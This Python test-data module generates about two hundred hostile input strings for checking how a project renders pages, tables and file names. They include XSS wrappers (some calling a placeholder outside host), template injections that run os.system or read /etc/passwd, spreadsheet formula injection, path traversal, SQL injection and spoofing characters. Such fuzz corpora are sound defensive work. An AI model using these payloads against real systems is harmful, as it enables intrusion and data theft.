"""Two hundred strings that somebody could type to make a page, a table or a file name do what it should not."""

from __future__ import annotations

from collections.abc import Iterator

_ACTS = ("window.ran={n}", "alert({n})", "fetch('https://elsewhere.invalid/{n}')", "document.title='ran{n}'")
_FORMS = (
    "<script>{act}</script>",
    "</script><script>{act}</script>",
    "</title><script>{act}</script>",
    "</style><script>{act}</script>",
    "</textarea><svg onload={act}>",
    '"><img src=x onerror="{act}">',
    "'><img src=x onerror='{act}'>",
    '" onmouseover="{act}" autofocus onfocus="{act}',
    "' onclick='{act}' x='",
    "<svg><script>{act}</script></svg>",
    "<svg/onload={act}>",
    '<a href="javascript:{act}">look</a>',
    "[look](javascript:{act})",
    "[look](  JaVaScRiPt:{act} )",
    "[look](java&#115;cript:{act})",
    "![x](data:image/svg+xml,<svg/onload={act}>)",
    "[look]: javascript:{act}\n[look]",
    "<javascript:{act}>",
    "<iframe srcdoc='<script>{act}</script>'></iframe>",
    "<object data='javascript:{act}'></object>",
    "<base href='https://elsewhere.invalid/'>{act}",
    "<meta http-equiv=refresh content='0;url=javascript:{act}'>",
    "<form action='javascript:{act}'><button autofocus>x</button></form>",
    "<details open ontoggle={act}>x",
    "<math><mtext><img src=x onerror={act}></mtext></math>",
    "<!--><img src=x onerror={act}>-->",
    "<![CDATA[<img src=x onerror={act}>]]>",
    "&lt;script&gt;{act}&lt;/script&gt;",
    "&#60;script&#62;{act}&#60;/script&#62;",
    "\\u003cscript\\u003e{act}\\u003c/script\\u003e",
    "{{ {act} }}{% raw %}<script>{act}</script>",
    "{{ cycler.__init__.__globals__.os.system('touch ran{n}') }}",
    "{% include '/etc/passwd' %}{# {n} #}",
    "${ {act} }#{ {act} }<%= {act} %>",
    "`<img src=x onerror={act}>`",
    "](x)<img src=x onerror={act}>",
    "| a | b |\n|---|---|\n| <img src=x onerror={act}> | x |",
    '{"@type":"x","a":"</script><script>{act}</script>"}',
)
_ODD = (
    "=HYPERLINK(\"https://elsewhere.invalid/{n}\",\"look\")",
    "=cmd|'/C calc'!A{n}",
    "+1+cmd{n}",
    "-2+3+cmd{n}",
    "@SUM(1+{n})",
    "\t=1+{n}",
    "\r=1+{n}",
    "../../../etc/passwd{n}",
    "..\\..\\windows\\{n}",
    "/etc/passwd{n}",
    "C:\\temp\\{n}",
    "file:///etc/passwd#{n}",
    "con{n}",
    "nul.{n}",
    "a\u202e{n}gpj.exe",
    "\u2066{n}\u2069\u200f\u200e",
    "e\u0301" * 20 + "{n}",
    "𝒳🌽" * 10 + "{n}",
    "ﷺ" * 30 + "{n}",
    "A" * 5000 + "{n}",
    "1e999 {n}",
    "NaN {n}",
    "%s%n%x{n}",
    "'; DROP TABLE samples;-- {n}",
    "C{n}/fuel.wood",
    "&" * 200 + "{n}",
    "<" * 200 + "{n}",
    "_" * 200 + "*" * 200 + "{n}",
    "[" * 300 + "{n}" + "]" * 300,
    "> " * 300 + "{n}",
    "$" * 50 + "{n}",
    "#let x = {n}; #read(\"/etc/passwd\")",
    "\\input{/etc/passwd} {n}",
    "<w:t>{n}</w:t>",
    "]]>{n}",
    "--- {n} ---",
    "{#{n}}",
    "approved: {by: x, on: 2026-01-0{n}}",
    "<<<<<<< {n}",
    "%%{n}%%",
)
UNSEEN = ("a\u0000b", "a\u001b[31mb\u0007", "a\u0085b", "a\u007fb", "a\ufeffb\ufffe")
"""Control characters, which no file of a project may hold."""


def payloads(number: int = 200) -> list[str]:
    """As many strings as are asked for, each with its own number in it."""
    made = list(_made())
    return [made[place % len(made)].replace("{n}", str(place)) for place in range(number)]


def _made() -> Iterator[str]:
    for place, form in enumerate(_FORMS * len(_ACTS)):
        yield form.replace("{act}", _ACTS[(place + place // len(_FORMS)) % len(_ACTS)])
    yield from _ODD
